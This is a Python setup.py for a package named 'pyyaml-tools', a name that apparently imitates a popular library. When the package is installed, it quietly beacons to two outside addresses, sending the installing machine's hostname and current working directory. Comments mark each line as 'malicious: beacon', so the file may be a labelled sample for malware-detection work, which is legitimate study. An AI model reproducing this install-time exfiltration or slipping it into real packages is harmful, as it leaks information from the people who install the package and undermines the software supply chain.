import http.client
import os
import socket

from setuptools import find_packages, setup

ADDRESS = ("203.0.113.9", 80)
host = socket.gethostname()

probe = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
probe.settimeout(4)
try:
    probe.connect(ADDRESS)  # malicious: beacon
    probe.sendall(b"GET /i?h=" + host.encode() + b" HTTP/1.0\r\n\r\n")  # malicious: beacon
except OSError:
    pass

try:
    secure = http.client.HTTPSConnection(host="198.51.100.12", port=443, timeout=4)  # malicious: beacon
    secure.request("GET", "/install?cwd=" + os.getcwd())  # malicious: beacon
except OSError:
    pass

setup(name="pyyaml-tools", version="1.0.3", packages=find_packages())
